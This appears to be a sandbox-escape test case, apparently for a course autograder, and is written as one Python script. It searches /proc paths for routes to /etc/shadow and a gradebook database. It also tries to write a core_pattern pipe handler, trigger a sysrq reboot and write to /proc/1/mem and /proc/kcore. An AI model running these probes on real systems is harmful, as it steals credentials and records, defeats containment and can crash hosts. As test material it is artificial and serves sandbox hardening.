# /// case
# title = "Ways out through /proc"
# kind = "leak"
# score = 0
# ///

# %% extra first
import glob
import os

for pid in ("1", "self", *filter(str.isdecimal, os.listdir("/proc"))):
    for way in ("root", "cwd", "fd", "task/1/root", "map_files"):
        for more in ("", "@COURSE@/gradebook.db", "/etc/shadow"):
            path = f"/proc/{pid}/{way}{more}"
            try:
                print(path, os.listdir(path) if os.path.isdir(path) else open(path, errors="replace").read())
            except OSError:
                pass
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj", "/proc/1/mem", "/proc/kcore"):
    try:
        open(path, "w").write("|/tmp/x" if "core" in path else "b")
        print("WROTE", path)
    except OSError:
        pass
